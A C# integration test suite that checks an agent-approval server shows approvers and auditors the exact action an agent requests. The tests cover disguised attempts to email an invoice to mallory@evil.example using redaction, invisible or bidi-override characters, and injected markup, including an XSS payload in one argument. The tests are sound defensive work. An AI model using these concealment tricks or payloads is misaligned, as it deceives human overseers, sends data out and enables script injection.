using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using ApprovalOrchestrator.Integration.Tests.Console;
using ApprovalOrchestrator.Integration.Tests.Support;
using ApprovalOrchestrator.Runtime.Storage;
using Dapper;
using Microsoft.Extensions.DependencyInjection;

namespace ApprovalOrchestrator.Integration.Tests.Adversarial;

/// <summary>
/// Attacks on what an approver is shown (issue 9, class 7): an agent asks to send data to an attacker's address, hides it
/// behind redaction ("[email]"), invisible characters or bidi controls, or smuggles markup. The approver (and admins and
/// auditors reading the task) must see exactly the text and args the action hash covers, with hidden characters made
/// visible and everything HTML-encoded; notifications and bus events stay redacted. Against the real server.
/// </summary>
public sealed class ApproverSeesExactActionTests
{
    private const string Attacker = "mallory@evil.example";
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_send_to_an_attackers_address_is_shown_exactly_in_the_inbox_the_task_and_to_auditors_not_as_email_placeholder()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var text = $"Email the Q1 invoice to {Attacker}.";
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync(text, tool: new { name = "message_send", action = "send", args = new { to = Attacker, attach = "q1-invoice.pdf" } }));

        var inbox = (await host.Approver("tina", "team-leads").GetFromJsonAsync<JsonElement>("/api/tasks", Ct)).GetProperty("items")[0];
        var task = await host.Approver("tina", "team-leads").GetFromJsonAsync<JsonElement>($"/api/tasks/{taskId}", Ct);
        var audited = await host.ClientFor("audrey", [], ["auditor"]).GetFromJsonAsync<JsonElement>($"/api/tasks/{taskId}", Ct);

        foreach (var view in new[] { inbox, task, audited })
        {
            Assert.Equal(text, view.GetProperty("text").GetString());
            Assert.Equal(Attacker, view.GetProperty("tool").GetProperty("args").GetProperty("to").GetString());
            Assert.DoesNotContain("[email]", view.GetRawText(), StringComparison.Ordinal);
        }
    }

    [Fact]
    public async Task An_approver_outside_the_group_learns_nothing_about_the_exact_action()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync($"Email the invoice to {Attacker}."));

        var response = await host.Approver("sam", "security-officers").GetAsync($"/api/tasks/{taskId}", Ct);

        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
        Assert.DoesNotContain(Attacker, await response.Content.ReadAsStringAsync(Ct), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Notifications_and_bus_events_stay_redacted()
    {
        await using var host = await OrchestratorHost.StartAsync(settings: OrchestratorHost.KeepingSentMessages());
        var id = await host.SubmitOkAsync($"Email the invoice to {Attacker}.");
        await host.OpenTaskIdAsync(id);

        await using var connection = host.Database.Open();
        var notice = await connection.QuerySingleAsync<string>(
            "SELECT body FROM outbox WHERE message_type LIKE '%ApprovalRequested%' AND body LIKE @id", new { id = $"%{id}%" });
        Assert.Contains("[email]", notice, StringComparison.Ordinal);
        Assert.DoesNotContain(Attacker, notice, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_zero_width_space_in_the_recipient_is_flagged_and_shown_as_a_marker_in_the_api()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync("Email the invoice to bob\u200B@example.com."));

        var task = await host.Approver("tina", "team-leads").GetFromJsonAsync<JsonElement>($"/api/tasks/{taskId}", Ct);

        Assert.Equal("Email the invoice to bob\u200B@example.com.", task.GetProperty("text").GetString());
        Assert.Equal("Email the invoice to bob⟦U+200B ZWSP⟧@example.com.", task.GetProperty("textVisible").GetString());
        Assert.Equal(["⟦U+200B ZWSP⟧"], task.GetProperty("hiddenCharacters").EnumerateArray().Select(h => h.GetString()));
    }

    [Fact]
    public async Task A_bidi_override_in_an_arg_value_and_a_hidden_character_in_an_arg_name_are_flagged()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var args = JsonDocument.Parse("""{"to":"pay \u202Eliam@example.com","cc\u2060":"x"}""").RootElement;
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync("Send the invoice to the vendor.", tool: new { name = "message_send", action = "send", args }));

        var task = await host.Approver("tina", "team-leads").GetFromJsonAsync<JsonElement>($"/api/tasks/{taskId}", Ct);

        Assert.Equal(["⟦U+202E RLO⟧", "⟦U+2060 WJ⟧"], task.GetProperty("hiddenCharacters").EnumerateArray().Select(h => h.GetString()));
        Assert.Equal("pay \u202Eliam@example.com", task.GetProperty("tool").GetProperty("args").GetProperty("to").GetString());
    }

    [Fact]
    public async Task The_console_task_page_shows_hidden_characters_as_markers_with_a_warning_and_encodes_markup()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var args = JsonDocument.Parse("""{"to":"x\u202E@evil.example","note":"<img src=x onerror=alert(1)>"}""").RootElement;
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync("Send the invoice to <b>bob</b>\u200B@example.com.", tool: new { name = "message_send", action = "send", args }));
        using var session = await ConsoleSession.SignInAsync(host, "tina", "approver", "team-leads");

        var html = await session.Http.GetStringAsync($"/tasks/{taskId}", Ct);

        Assert.Contains("data-testid=\"hidden-characters\"", html, StringComparison.Ordinal);
        Assert.Contains("<span class=\"hidden-char\" title=\"invisible character U+200B\">⟦U+200B ZWSP⟧</span>", html, StringComparison.Ordinal);
        Assert.Contains("⟦U+202E RLO⟧", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\u200B", html, StringComparison.Ordinal);
        Assert.DoesNotContain("\u202E", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<b>bob</b>", html, StringComparison.Ordinal);
        Assert.DoesNotContain("<img src=x", html, StringComparison.Ordinal);
        Assert.Contains("&lt;b&gt;bob&lt;/b&gt;", html, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Aoctl_show_prints_the_exact_text_with_markers_and_a_warning()
    {
        await using var host = await OrchestratorHost.StartAsync();
        var taskId = await host.OpenTaskIdAsync(await host.SubmitOkAsync($"Email the invoice to {Attacker}\u200B."));
        var aoctl = AoctlProcess.WithTemporaryHome();
        var server = host.Anonymous.BaseAddress!.ToString().TrimEnd('/');
        var login = await aoctl.RunAsync("login", "--server", server, "--token", host.Tokens.Issue("tina", ["team-leads"], ["approver"]));
        Assert.True(login.ExitCode == 0, login.ToString());

        var show = await aoctl.RunAsync("show", taskId.ToString());

        Assert.True(show.ExitCode == 0, show.ToString());
        Assert.Contains($"Email the invoice to {Attacker}⟦U+200B ZWSP⟧.", show.Stdout, StringComparison.Ordinal);
        Assert.Contains("WARNING: ⟦U+200B ZWSP⟧", show.Stdout, StringComparison.Ordinal);
    }
}
